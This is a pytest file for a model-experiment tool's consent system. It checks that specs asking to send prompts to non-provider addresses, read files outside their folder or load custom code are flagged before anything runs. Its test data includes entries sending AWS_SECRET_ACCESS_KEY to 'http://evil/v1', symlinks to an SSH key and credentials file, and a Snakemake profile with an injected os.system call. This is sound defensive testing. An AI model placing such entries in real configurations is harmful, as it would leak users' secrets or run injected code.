"""What a spec does beyond asking models of known providers is listed, and nothing runs before its user permits it."""

from __future__ import annotations

import argparse
import importlib.util
import io
import json
import os
import re
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest

from cortexdsl.cli.experiments import add_run_arguments, find_profile, run_run
from cortexdsl.cli.main import main
from cortexdsl.errors import InputError
from cortexdsl.jobs.options import VerbParser
from cortexdsl.models.endpoints.providers import address_variables, known_providers, provider_of
from cortexdsl.models.transports.prices import known_price
from cortexdsl.plan.compiler import compile_spec
from cortexdsl.plan.jobs.consent import VARIABLE, check_consent, is_permitted, remember, request_of
from cortexdsl.plan.jobs.schedule import LOCAL_SIMILARITIES
from cortexdsl.plan.permissions import SENTENCE_MODELS

Write = Callable[[str], None]
HEAD = "seed: 1\nmethods: {alone: {protocol: standard}}\nlimits: {calls: 10}\n"
AGENTS = "agents: [{name: ann, model: one}, {name: bob, model: one}]\n"
SUMS = "dataset: {name: arithmetic, size: 2}\n"
ROOT = Path(__file__).resolve().parents[2]
PIXEL = (
    b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\1\0\0\0\1\x08\6\0\0\0\x1f\x15\xc4\x89\0\0\0\rIDATx\x9cc\xf8\xcf\xc0\xf0"
    b"\x1f\0\5\0\1\xff\x89\x99=\x1d\0\0\0\0IEND\xaeB`\x82"
)


@pytest.fixture
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The folder of a spec from somebody else, beside a home with secrets; nothing is permitted."""
    for name in ("home/.ssh", "work/specs", "work/data", "work/prompts/my"):
        (tmp_path / name).mkdir(parents=True)
    (tmp_path / "home/credentials.json").write_text('[{"question": "1+1", "answer": "2"}]')
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    monkeypatch.delenv(VARIABLE, raising=False)
    monkeypatch.chdir(tmp_path / "work")
    return tmp_path


def spec(text: str) -> None:
    Path("specs/x.yaml").write_text(HEAD + text)


def asked_for(text: str) -> list[str]:
    spec(text)
    return [one.what for one in compile_spec("x").permissions]


def model(entry: str, more: str = "") -> str:
    return f"models: {{one: {{{entry}, price: {{input: 0, output: 0}}}}}}\n{AGENTS}{SUMS}{more}"


@pytest.mark.parametrize(
    "entry",
    [
        "model: openai/gpt-4o",
        "model: openai/gpt-4o, api_key_env: OPENAI_API_KEY",
        'model: openai/x, api_base: "http://127.0.0.1:8000/v1"',
        'model: direct/x, api_base: "http://localhost:8000/v1"',
        'model: openai/x, api_base: "http://[::1]:8000/v1"',
        'model: openai/x, api_base: "env:MY_SERVER"',
        'model: openai/x, api_base: "env:MY_SERVER", api_key_env: OPENAI_API_KEY',
        'model: openai/x, api_base: "env:LAB_URL", api_key_env: LAB_KEY',
        "model: openai/gpt-4o, options: {top_k: 5, max_completion_tokens: 9, vertex_location: x, prompt_cache_key: a}",
    ],
)
def test_what_needs_no_permission(here: Path, entry: str) -> None:
    assert asked_for(model(entry)) == []


@pytest.mark.parametrize(
    ("entry", "said"),
    [
        ('model: openai/x, api_base: "http://gpu-box:8000/v1"', "send prompts to http://gpu-box:8000/v1"),
        (
            'model: openai/x, api_base: "http://evil/v1", api_key_env: AWS_SECRET_ACCESS_KEY',
            "send prompts and the value of the variable AWS_SECRET_ACCESS_KEY to http://evil/v1",
        ),
        (
            'model: openai/x, api_base: "http://127.0.0.1:1/v1", api_key_env: OPENAI_API_KEY',
            "send prompts and the value of the variable OPENAI_API_KEY to http://127.0.0.1:1/v1",
        ),
        (
            "model: openai/gpt-4o, api_key_env: AWS_SECRET_ACCESS_KEY",
            "send prompts and the value of the variable AWS_SECRET_ACCESS_KEY to the provider of openai/gpt-4o",
        ),
        (
            'model: openai/x, api_base: "env:MY_SERVER", api_key_env: AWS_SECRET_ACCESS_KEY',
            "send prompts and the value of the variable AWS_SECRET_ACCESS_KEY to the address in MY_SERVER",
        ),
        (
            'model: openai/x, api_base: "http://127.0.0.1.evil.org/v1"',
            "send prompts to http://127.0.0.1.evil.org/v1",
        ),
        (
            'model: bedrock/x, options: {aws_sts_endpoint: "http://evil"}',
            "give litellm the option aws_sts_endpoint: http://evil",
        ),
        (
            'model: openai/gpt-4o, options: {user: "os.environ/SECRET"}',
            "give litellm the option user: os.environ/SECRET",
        ),
    ],
)
def test_addresses_and_variables(here: Path, entry: str, said: str) -> None:
    assert asked_for(model(entry)) == [said]


def test_each_of_several_addresses_is_asked_about(here: Path) -> None:
    entry = 'model: openai/x, api_base: ["http://127.0.0.1:1/v1", "http://gpu-box:8000/v1", "http://evil/v1"]'
    assert asked_for(model(entry)) == ["send prompts to http://gpu-box:8000/v1", "send prompts to http://evil/v1"]


REDIRECTS = [
    ("openai/gpt-4o", "OPENAI_BASE_URL", "OPENAI_API_KEY"),
    ("openai/gpt-4o", "OPENAI_API_BASE", "OPENAI_API_KEY"),
    ("ft:gpt-4o:mine", "OPENAI_BASE_URL", "OPENAI_API_KEY"),
    ("anthropic/claude-3-5-haiku-latest", "ANTHROPIC_BASE_URL", "ANTHROPIC_API_KEY"),
    ("azure/mine", "AZURE_API_BASE", "AZURE_API_KEY"),
    ("gemini/gemini-2.0-flash", "GEMINI_API_BASE", "GEMINI_API_KEY"),
    ("ollama/llama3", "OLLAMA_API_BASE", ""),
    ("bedrock/anthropic.claude-3-haiku-20240307-v1:0", "AWS_ENDPOINT_URL", "AWS_ACCESS_KEY_ID"),
    ("groq/llama-3.1-8b-instant", "GROQ_API_BASE", "GROQ_API_KEY"),
    ("together_ai/meta-llama/Llama-3-8b", "TOGETHER_AI_API_BASE", "TOGETHERAI_API_KEY"),
]


@pytest.mark.parametrize(("name", "variable", "key"), REDIRECTS)
def test_what_the_environment_redirects_is_asked_with_the_key_that_would_go_there(
    here: Path, monkeypatch: pytest.MonkeyPatch, name: str, variable: str, key: str
) -> None:
    """Also to loopback. The call log then has the variable, and no price of the provider counts."""
    asked = model(f"model: {name}")
    assert asked_for(asked) == []
    monkeypatch.setenv(variable, "http://127.0.0.1:1/v1")
    if key:
        monkeypatch.setenv(key, "sk-of-mine-0123456789")
    sent = f"send prompts and the value of the variable {key}" if key else "send prompts"
    assert asked_for(asked) == [f"{sent} to http://127.0.0.1:1/v1, the address in {variable}"]
    found = compile_spec("x").models["one"]
    assert (found.api_base, found.api_key_env) == (f"env:{variable}", key or None)
    assert known_price(replace(found, price=None)) is None or name.startswith(("azure", "bedrock"))
    assert asked_for(model(f'model: {name}, api_base: "http://127.0.0.1:2/v1"')) == []  # the entry's own address counts


def test_a_proxy_is_asked_once(here: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HTTPS_PROXY", "http://user:secret@proxy:3128")
    assert asked_for(model("model: openai/gpt-4o")) == [
        "send calls through http://proxy:3128, the proxy in HTTPS_PROXY"
    ]
    assert asked_for(f"models: {{one: {{model: builtin/solver}}}}\n{AGENTS}{SUMS}") == []


NOT_FOR_CHAT = re.compile(
    r"SERPER|TAVILY|EXA|BRAVE|SEARCH|JINA|FIRECRAWL|LINKUP|PARALLEL|DATAFORSEO|DUCKDUCKGO|PSE|NIMBLE|SERPENT|YOUCOM|CRW"
    r"|TINYFISH|FAL_AI|BFL|STABILITY|RECRAFT|RUNWAY|TOPAZ|ELEVENLABS|DEEPGRAM|SONIOX|SPEECH|RIVA|_IMAGE|VECTOR|MILVUS"
    r"|LANGTRACE|LOGFIRE|A2A|COMETAPI|AGENTCORE|CHATGPT|COPILOT|LITELLM_USE|_ANTHROPIC_API_BASE|ANTHROPIC_AWS"
)
"""Searches, pictures, sound, tracing, and logins by a browser: no call of a debate goes there."""


REFUSED = {"ALEPH_ALPHA_API_BASE": "aleph_alpha", "GDC_API_BASE": "gdc", "LANGFLOW_API_BASE": "langflow",
           "NADIR_API_BASE": "nadir"}  # fmt: skip
"""Variables of providers that `check` does not know, so that no model of theirs runs."""


def test_every_variable_with_an_address_that_litellm_reads_is_known() -> None:
    """Its own source, in the version that is installed, is searched for variables that end as these do."""
    root = Path(importlib.util.find_spec("litellm").origin).parent  # type: ignore[union-attr, arg-type]
    read = re.compile(
        r"""(?:get_secret(?:_str)?|environ\.get|getenv)\(\s*["']([A-Z0-9_]+_(?:API_BASE|BASE_URL|ENDPOINT))["']"""
    )
    files = [*(root / "llms").rglob("*.py"), root / "main.py", *(root / "litellm_core_utils").rglob("*.py")]
    found = {name for file in files for name in read.findall(file.read_text(encoding="utf-8"))}
    assert {"OPENAI_BASE_URL", "ANTHROPIC_API_BASE", "GROQ_API_BASE"} <= found
    known = {name for provider in known_providers() for name in address_variables(provider)}
    assert {name for name in found - known if not NOT_FOR_CHAT.search(name)} == {*REFUSED}
    assert [provider_of(f"{provider}/x") for provider in REFUSED.values()] == [None] * len(REFUSED)


def test_servers(here: Path) -> None:
    """A command runs."""
    local = 'servers: {s: {command: "serve --port {port} \\e[2K", env: MY_SERVER}}\n'
    assert asked_for(model('model: openai/x, api_base: "env:MY_SERVER"', local)) == [
        r"run the command serve --port {port} \x1b[2K"
    ]


SOLVER = f"models: {{one: {{model: builtin/solver}}}}\n{AGENTS}"


def test_files_outside_the_folder_of_the_spec(here: Path) -> None:
    """A path, a link to it, and a hidden file need permission; a file beside specs/ does not."""
    secret = (here / "home/credentials.json").resolve()
    rows = "{file: %s, question: question, answer: answer, kind: number}"
    Path("data/q.json").write_text(secret.read_text())
    Path("data/link.json").symlink_to(secret)
    Path(".hidden.json").write_text(secret.read_text())
    assert asked_for(f"{SOLVER}dataset: {rows % '../data/q.json'}\n") == []
    for path, place in (
        ("../../home/credentials.json", secret),
        (str(secret), secret),
        ("~/credentials.json", secret),
        ("../data/link.json", secret),
        ("../.hidden.json", Path(".hidden.json").resolve()),
    ):
        assert asked_for(f"{SOLVER}dataset: {rows % path}\n") == [f"read {place}"], path
    os.environ["ROWS"] = str(secret)
    try:
        assert asked_for(f"{SOLVER}dataset: {rows % 'env:ROWS'}\n") == []  # its user has set the variable
    finally:
        del os.environ["ROWS"]


def test_a_spec_in_the_home_folder_does_not_own_it(here: Path) -> None:
    path = here / "home/x.yaml"
    path.write_text(
        f"{HEAD}{SOLVER}dataset: {{file: credentials.json, question: question, answer: answer, kind: number}}\n"
    )
    (said,) = (one.what for one in compile_spec(str(path)).permissions)
    assert said == f"read {(here / 'home/credentials.json').resolve()}"


def test_pictures_of_a_dataset(here: Path) -> None:
    passport, own = here / "home/passport.png", Path("data/own.png")
    for path in (passport, own):
        path.write_bytes(PIXEL)
    Path("data/link.png").symlink_to(passport)
    for picture, is_own in (("own.png", True), (str(passport), False), ("link.png", False)):
        row = {"question": "who?", "answer": "me", "image": picture}
        Path("data/q.jsonl").write_text(json.dumps(row) + "\n")
        data = "dataset: {file: ../data/q.jsonl, question: question, answer: answer, images: [image], kind: text}\n"
        said = asked_for(model("model: openai/gpt-4o").replace(SUMS, data))
        assert said == ([] if is_own else [f"send models the pictures {passport.resolve()}"]), picture


def test_prompts(here: Path) -> None:
    """A link in the prompt folder would send the file that it points to."""
    Path("prompts/my/answer.j2").write_text("{{ question.text }}")
    assert asked_for(SOLVER + SUMS) == []
    key = here / "home/.ssh/id"
    key.write_text("secret")
    Path("prompts/my/more.j2").symlink_to(key)
    assert asked_for(SOLVER + SUMS) == [f"read {key.resolve()} as a prompt"]
    Path("specs/prompts").symlink_to(here / "home")
    assert f"take prompts from {(here / 'home').resolve()}" in asked_for(SOLVER + SUMS)


def test_corpora(here: Path) -> None:
    passages = here / "home/notes.jsonl"
    passages.write_text('{"id": "1", "title": "t", "text": "x"}\n')
    known = "knowledge: {facts: {corpus: %s}}\n"
    assert asked_for(SOLVER + SUMS + known % "../../home/notes.jsonl") == [f"read {passages.resolve()}"]
    search = 'knowledge: {web: {api_base: "http://evil/s", api_key_env: MY_KEY}}\n'
    said = "send searches and the value of the variable MY_KEY to http://evil/s"
    assert asked_for(SOLVER + SUMS + search) == [said]
    assert asked_for(SOLVER + SUMS + "knowledge: {web: {api_key_env: SERPER_API_KEY}}\n") == []


def test_a_similarity_folder_runs_code_of_its_own(here: Path) -> None:
    """The same name is the hub's if there is no such folder."""
    assert set(SENTENCE_MODELS) < set(LOCAL_SIMILARITIES)
    debate = "methods: {d: {protocol: cortexdebate, similarity: sentence-transformers/mine}}\n"
    text = SOLVER.replace("solver}", "solver, parameters: 1.0e9, tokens: 1.0e12}") + SUMS
    Path("specs/x.yaml").write_text(f"seed: 1\n{debate}{text}")
    assert compile_spec("x").permissions == ()
    Path("mine").mkdir()
    Path("mine/modules.json").write_text("[]")
    (before,) = compile_spec("x").permissions
    assert before.what.startswith("load the model in the folder ")
    Path("mine/code.py").write_text("print()")
    (after,) = compile_spec("x").permissions
    assert after.what == before.what
    assert after.content != before.content


def test_the_shipped_specs_need_no_permission(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """Those that run here: the others need data that does not ship, and differ in nothing that is asked for."""
    monkeypatch.chdir(ROOT)
    monkeypatch.setenv("HOME", str(tmp_path))
    for name in ("quickstart", "tiny", "examples/tools", "examples/madke", "examples/six", "train/acc-tiny"):
        assert compile_spec(name).permissions == (), name


def arguments(*words: str) -> argparse.Namespace:
    parser = VerbParser()
    add_run_arguments(parser)
    parsed = parser.parse_args(["x", *words])
    parsed.handed_on = []
    return parsed


NOTHING = os.open(os.devnull, os.O_RDONLY)


class Terminal(io.StringIO):
    """A terminal on which the answer was typed already: the place where it waits for input is always ready."""

    def isatty(self) -> bool:
        return True

    def fileno(self) -> int:
        return NOTHING


@pytest.fixture
def started(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The permissions with which Snakemake was started."""
    runs: list[str] = []
    monkeypatch.setattr(os, "execv", lambda program, command: runs.append(os.environ.get(VARIABLE, "")))
    return runs


def test_it_is_asked_once_on_a_terminal(here: Path, started: list[str], monkeypatch: pytest.MonkeyPatch) -> None:
    spec(model('model: openai/x, api_base: "http://gpu-box:8000/v1"'))
    monkeypatch.setattr("sys.stdin", io.StringIO("y\n"))
    with pytest.raises(InputError, match="cortexdsl trust x"):
        run_run(arguments())  # no terminal
    for answer, runs in (("\n", 0), ("n\n", 0), ("y\n", 1)):
        shown = Terminal()
        monkeypatch.setattr("sys.stdin", Terminal(answer))
        monkeypatch.setattr("sys.stderr", shown)
        if runs:
            run_run(arguments())
        else:
            with pytest.raises(InputError, match="not permitted"):
                run_run(arguments())
        assert "send prompts to http://gpu-box:8000/v1   (specs/x.yaml:4:" in shown.getvalue()
        assert len(started) == runs
    monkeypatch.delenv(VARIABLE)
    monkeypatch.setattr("sys.stdin", io.StringIO(""))
    run_run(arguments())  # remembered: not asked again
    assert len(started) == 2
    assert not list(Path().rglob("*trusted*"))  # never in the folder of the spec or in its results


def test_another_address_or_another_spec_is_asked_about_again(here: Path) -> None:
    spec(model('model: openai/x, api_base: "http://gpu-box:8000/v1"'))
    assert main(["trust", "x"]) == 0
    check_consent(compile_spec("x"))
    Path("specs/x.yaml").write_text(Path("specs/x.yaml").read_text() + "title: an edit of something else\n")
    check_consent(compile_spec("x"))
    Path("specs/y.yaml").write_text(Path("specs/x.yaml").read_text())
    with pytest.raises(InputError, match="gpu-box"):
        check_consent(compile_spec("y"))
    spec(model('model: openai/x, api_base: "http://evil:8000/v1"'))
    with pytest.raises(InputError, match="evil"):
        check_consent(compile_spec("x"))


def test_machines(here: Path, started: list[str], monkeypatch: pytest.MonkeyPatch) -> None:
    """`--yes` is for one run and remembers nothing; the variable names what was read, the same on every machine."""
    spec(model('model: openai/x, api_base: "http://gpu-box:8000/v1"'))
    request = request_of(compile_spec("x"))
    run_run(arguments("--yes"))
    assert started == [request.digest]
    monkeypatch.delenv(VARIABLE)
    assert not is_permitted(request)
    monkeypatch.setenv(VARIABLE, f"0123,{request.digest}")
    assert is_permitted(request)
    monkeypatch.setenv(VARIABLE, "yes")
    assert not is_permitted(request)


def test_it_can_be_forgotten(here: Path, capsys: pytest.CaptureFixture[str]) -> None:
    spec(model('model: openai/x, api_base: "http://gpu-box:8000/v1"'))
    file = remember(request_of(compile_spec("x")))
    assert file.is_relative_to(here / "state")
    assert file.parent.stat().st_mode & 0o777 == 0o700
    assert main(["check", "x"]) == 0
    assert "you have permitted this" in capsys.readouterr().out
    assert main(["trust", "x", "--forget"]) == 0
    assert not file.exists()
    assert main(["check", "x"]) == 0
    assert "this needs your permission" in capsys.readouterr().out


def test_a_profile_in_the_folder_is_asked_about(
    here: Path, started: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Snakemake evaluates the expressions of a profile, and reads `profiles/default` of the folder by itself."""
    spec(SOLVER + SUMS)
    Path("profiles/default").mkdir(parents=True)
    config = Path("profiles/default/config.yaml")
    config.write_text("default-resources: [\"mem_mb=__import__('os').system('touch ran')\"]\n")
    monkeypatch.setattr("sys.stdin", io.StringIO("y\n"))
    with pytest.raises(InputError, match="default profile of Snakemake"):
        run_run(arguments())
    run_run(arguments("--yes"))
    config.write_bytes((ROOT / "profiles/default/config.yaml").read_bytes())
    run_run(arguments())  # the shipped one, copied
    assert len(started) == 2


def test_permission_for_a_profile_ends_if_its_files_exchange_names(
    here: Path, started: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    spec(SOLVER + SUMS)
    Path("default").mkdir()
    Path("default/config.yaml").write_text("keep-going: true\n")
    Path("default/more.txt").write_text("latency-wait: 7\n")
    monkeypatch.setattr("sys.stdin", Terminal("y\n"))
    monkeypatch.setattr("sys.stderr", Terminal())
    run_run(arguments())
    Path("default/config.yaml").rename("default/a.txt")
    Path("default/more.txt").rename("default/config.yaml")
    monkeypatch.setattr("sys.stdin", io.StringIO())
    with pytest.raises(InputError, match="default profile of Snakemake"):
        run_run(arguments())


def test_a_folder_does_not_replace_a_shipped_profile(here: Path) -> None:
    """A name without a path is the shipped profile, also if a folder from somebody else has the same name."""
    for name in ("slurm", "mine"):
        Path(name).mkdir()
        Path(name, "config.yaml").write_text("jobs: 1\n")
    assert Path(find_profile("slurm")) == ROOT / "profiles/slurm"
    assert (find_profile("./slurm"), find_profile("mine")) == ("slurm", "mine")
